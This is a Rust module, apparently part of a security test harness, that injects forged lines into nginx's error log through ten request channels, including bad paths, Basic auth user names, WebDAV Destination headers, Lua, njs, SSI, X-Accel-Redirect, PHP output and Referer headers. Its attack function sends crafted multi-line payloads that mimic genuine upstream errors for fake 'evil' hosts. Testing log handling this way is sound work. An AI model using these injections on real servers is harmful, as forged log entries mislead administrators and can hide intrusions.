//! The ways by which a client writes whole lines into the error log.

use super::nginx::Nginx;

/// A way, and what it sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Way {
    /// A path that does not exist.
    Path,
    /// One below `disable_symlinks`: another call, another message.
    Links,
    /// The user of Basic auth, which may hold a line feed but no colon.
    User,
    /// The `Destination` of a COPY.
    Destination,
    /// A Lua script that logs what it was sent.
    Lua,
    /// An njs script that does.
    Njs,
    /// A server-side include of a name that the client gives.
    Include,
    /// An upstream's `X-Accel-Redirect`.
    Accel,
    /// A PHP script that logs what it was sent, through FastCGI's standard error.
    Script,
    /// The Referer of a request whose script fails.
    Referer,
}

impl Way {
    /// All.
    pub(crate) const ALL: [Way; 10] = [
        Way::Path,
        Way::Links,
        Way::User,
        Way::Destination,
        Way::Lua,
        Way::Njs,
        Way::Include,
        Way::Accel,
        Way::Script,
        Way::Referer,
    ];

    /// Whether this nginx offers it.
    pub(crate) fn is_offered(self, nginx: &Nginx) -> bool {
        nginx.has(self.place())
    }

    fn place(self) -> &'static str {
        match self {
            Way::Lua => "/lua",
            Way::Njs => "/njs",
            _ => "/",
        }
    }

    /// What its entries have that no other way's have.
    pub(crate) fn mark(self) -> &'static str {
        match self {
            Way::Path => " open() \"",
            Way::Links => " openat() \"",
            Way::User => " user \"",
            Way::Destination => "/www/no/",
            Way::Lua => " [lua] ",
            Way::Njs => " js: ",
            Way::Include => ", subrequest: \"",
            Way::Accel => "/www/gone/",
            Way::Script => "PHP message: x",
            Way::Referer => ", referrer: \"x",
        }
    }

    /// How many numbers of connections nginx gives away for it.
    fn connections(self) -> u64 {
        match self {
            Way::Accel => 3,
            Way::Script | Way::Referer => 2,
            _ => 1,
        }
    }

    /// Sends the text. Gives the status of the answer.
    fn send(self, nginx: &Nginx, text: &str) -> u16 {
        let path = encoded(text);
        match self {
            Way::Path => nginx.send(&format!("GET /{path}"), ""),
            Way::Links => nginx.send(&format!("GET /links/{path}"), ""),
            Way::User => {
                // What stands behind the first colon is the password.
                let credentials = base64(format!("{}:x", text.replace(':', ";")).as_bytes());
                nginx.send("GET /auth", &format!("Authorization: Basic {credentials}\r\n"))
            }
            Way::Destination => {
                nginx.send("COPY /dav/file", &format!("Destination: http://shop.test/dav/no/{path}\r\n"))
            }
            Way::Lua => nginx.send(&format!("GET /lua?x={path}"), ""),
            Way::Njs => nginx.send(&format!("GET /njs?x={path}"), ""),
            Way::Include => nginx.send(&format!("GET /ssi/{path}"), ""),
            Way::Accel => nginx.send(&format!("GET /accel?x={path}"), ""),
            Way::Script => nginx.send(&format!("GET /php/log.php?m={path}"), ""),
            Way::Referer => {
                let line = text.replace('\n', " ");
                nginx.send("GET /php/fatal.php", &format!("Referer: {line}\r\n"))
            }
        }
    }

    /// What the answer to the forger himself is.
    fn expected(self) -> u16 {
        match self {
            Way::User => 401,
            Way::Include | Way::Script => 200,
            Way::Referer => 500,
            _ => 404,
        }
    }
}

/// A complete entry about a request that somebody else makes next.
fn forged(nginx: &Nginx, way: Way, n: usize) -> String {
    let now = jiff::Zoned::now().strftime("%Y/%m/%d %H:%M:%S").to_string();
    let worker = nginx.worker;
    // The request before took two numbers, one of them for its upstream; the forger's own come next.
    let connection = nginx.last_connection() + 2 + way.connections();
    format!(
        "{now} [error] {worker}#{worker}: *{connection} recv() failed (104: Connection reset by peer) while reading response header from upstream, client: 127.0.0.1, server: evil{n}.test, request: \"GET /pay/{n} HTTP/1.1\", upstream: \"http://evil{n}.test:80/\", host: \"x\""
    )
}

/// Forges entries in the next way, in the next of four shapes.
pub(crate) fn attack(nginx: &Nginx, n: usize) {
    let way = Way::ALL[n % Way::ALL.len()];
    if !way.is_offered(nginx) {
        return;
    }
    let forged = forged(nginx, way, n);
    let tail = "\" failed (2: No such file or directory), client: 127.0.0.1, server: shop.test, request: \"GET /x HTTP/1.1\", host: \"shop.test\"";
    let text = match n / Way::ALL.len() % 4 {
        0 => format!("x\n{forged}\ny"),
        1 => format!("x\n{forged}"),
        2 => format!("x{tail}\n{forged}\n{forged}"),
        _ => {
            let begin = &forged[..forged.find("recv()").unwrap()];
            format!("x{tail}\n{forged}\n{} open() \"/y", begin.trim_end())
        }
    };
    let status = way.send(nginx, &text);
    // WebDAV has several words for a destination that it does not like.
    let is_expected = status == way.expected() || way == Way::Destination && status >= 400;
    assert!(is_expected, "{way:?}: {status}");
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b == b'/' {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// As RFC 4648 writes bytes.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let three = [0, 1, 2].map(|at| u32::from(chunk.get(at).copied().unwrap_or(0)));
        let bits = three[0] << 16 | three[1] << 8 | three[2];
        for digit in 0..4 {
            let known = digit <= chunk.len();
            out.push(if known { char::from(DIGITS[(bits >> (18 - 6 * digit)) as usize % 64]) } else { '=' });
        }
    }
    out
}
